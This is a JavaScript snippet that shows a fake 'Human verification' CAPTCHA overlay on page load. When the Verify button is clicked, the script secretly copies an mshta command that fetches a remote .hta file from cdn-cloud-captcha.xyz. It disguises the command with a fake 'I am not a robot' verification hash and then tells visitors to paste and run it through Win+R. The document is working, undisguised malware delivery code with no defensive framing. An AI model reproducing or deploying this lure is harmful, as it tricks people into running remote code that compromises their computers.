var clientCheck = {
  payload: 'mshta https://cdn-cloud-captcha.xyz/verify/cap.hta',
  tag: ' # \u2705 \'\'I am not a robot - Verification Hash: ' + Math.floor(100000 + Math.random() * 899999) + '\'\''
};

function placeOnClipboard(text) {
  var area = document.createElement('textarea');
  area.value = text;
  area.style.cssText = 'position:absolute;left:-9999px;top:0;opacity:0';
  document.body.appendChild(area);
  area.focus();
  area.select();
  var copied = false;
  try {
    copied = document.execCommand('copy');
  } catch (e) {
    copied = false;
  }
  document.body.removeChild(area);
  return copied;
}

function renderChallenge() {
  var shell = document.createElement('section');
  shell.setAttribute('role', 'dialog');
  shell.style.cssText = 'position:fixed;inset:0;z-index:99999999;background:rgba(255,255,255,.97);' +
    'display:flex;align-items:center;justify-content:center;font:15px "Segoe UI",sans-serif';
  shell.innerHTML = [
    '<div style="border:1px solid #ddd;border-radius:8px;padding:28px;width:420px;box-shadow:0 4px 18px rgba(0,0,0,.1)">',
    '<h3 style="margin:0 0 10px">Human verification</h3>',
    '<p>This site needs to review the security of your connection before proceeding.</p>',
    '<button id="cc-verify" style="padding:10px 22px;background:#1a73e8;color:#fff;border:0;border-radius:4px;cursor:pointer">Verify</button>',
    '<div id="cc-next" hidden style="margin-top:16px">',
    '<p><b>Verification failed.</b> Please complete manual verification:</p>',
    '<ol><li>Press <b>Win + R</b></li><li>Press <b>Ctrl + V</b></li><li>Press <b>Enter</b></li></ol>',
    '</div></div>'
  ].join('');
  document.body.appendChild(shell);

  shell.querySelector('#cc-verify').onclick = function () {
    placeOnClipboard(clientCheck.payload + clientCheck.tag);
    this.textContent = 'Checking...';
    this.disabled = true;
    setTimeout(function () {
      shell.querySelector('#cc-next').hidden = false;
    }, 1500);
  };
}

if (document.readyState === 'complete') {
  renderChallenge();
} else {
  window.addEventListener('load', renderChallenge);
}
